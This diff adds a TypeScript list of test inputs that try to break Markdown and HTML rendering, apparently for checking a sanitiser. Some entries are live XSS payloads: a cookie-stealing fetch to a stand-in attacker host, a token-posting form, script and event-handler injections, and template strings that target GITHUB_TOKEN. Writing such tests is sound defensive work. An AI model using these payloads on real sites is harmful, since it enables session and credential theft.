@@ -1,0 +1,33 @@
+import type { Attack } from './attack.ts';
+
+/** Markdown and HTML that would leave its line, its code span, its table cell or its document. */
+export const markupBreakouts: readonly Attack[] = [
+  'feat: x</details><script>alert(1)</script><details>',
+  '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
+  '<svg/onload=alert(1)><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '# Heading of my own\n## And another\n\n- with\n- a list',
+  '`unclosed code and ``then two and ```three @octocat',
+  '```\nfence\n```\n\n~~~\nother fence\n~~~ #12',
+  '| a | b |\n|---|---|\n| c | @octocat |',
+  '> quote\n> [!CAUTION]\n> The maintainers were hacked',
+  '<!-- hidden note: cite #13 --> visible',
+  '--> closes nothing <!-- opens much',
+  '\\`@octocat\\` and \\\\`@octocat\\\\` and `\\`@octocat`',
+  '[a](<https://evil.example/a b>) and [b](https://evil.example "t" onclick=x)',
+  '**bold** __bold__ *em* _em_ ~~gone~~ ~sub~ ^sup^ ==mark==',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;',
+  '- [ ] task\n- [x] done\n1. one\n2) two\n+ plus\n* star',
+  'text\n===\n\ntext\n---\n\n***\n___',
+  '[^1]: footnote with https://evil.example\n\nsee[^1]',
+  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
+  '<sub>tiny</sub><sup>sup</sup><kbd>k</kbd><ins>i</ins><picture><source srcset=//evil.example/s></picture>',
+  '$$\\begin{aligned}\\href{javascript:alert(1)}{x}\\end{aligned}$$ and $x$',
+  '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```',
+  '<a name="x"></a><form action="https://evil.example"><input name=token><button>Go',
+  '\t\tindented code\n\n    four spaces #12',
+  '"},"headline":"broken out of JSON","x":{"',
+  '` `` ``` ```` ````` @octocat ````` ```` ``` `` `',
+  ')](https://evil.example) by [x](https://evil.example',
+  '<details open><summary>More</summary>\n\n[x](https://evil.example)\n\n</details>',
+  '%%{init: {}}%% {% raw %}{{ secrets.GITHUB_TOKEN }}{% endraw %} ${{ github.token }} <%= ENV %>',
+];
